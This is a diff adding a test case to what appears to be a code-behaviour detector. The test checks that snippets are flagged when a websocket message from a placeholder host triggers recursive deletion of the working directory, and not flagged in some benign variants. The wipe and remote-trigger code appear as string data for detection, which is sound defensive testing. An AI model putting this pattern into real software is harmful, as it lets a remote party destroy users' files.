@@ -19,6 +19,19 @@ describe('files', () => {
     });
   }
 
+  it('are lost where a host says so, whoever has called', () => {
+    const wipe = `for (const e of fs.readdirSync(process.cwd())) fs.rmSync(path.join(process.cwd(), e), { recursive: true });`;
+    const listening = (on: string) =>
+      behavioursOf(`exports.open = () => { const ws = new (require('ws'))('wss://order.invalid/'); ${on} };`);
+    assert.deepEqual(listening(`ws.on('message', (m) => { if (String(m) === 'x') { ${wipe} } });`), [
+      'deletes-user-files call',
+      'destroys-on-request call',
+    ]);
+    assert.deepEqual(listening(`ws.on('open', () => { ${wipe} });`), []);
+    const ofTool = wipe.replaceAll('process.cwd()', `path.join(process.cwd(), 'dist')`);
+    assert.deepEqual(listening(`ws.on('message', (m) => { if (String(m) === 'x') { ${ofTool} } });`), []);
+  });
+
   it('are not lost where they lie in a folder of their own, where they are rewritten, or where somebody asks for it', () => {
     assert.deepEqual(
       behavioursOf(`for (const e of fs.readdirSync(os.tmpdir())) fs.unlinkSync(path.join(os.tmpdir(), e));`),
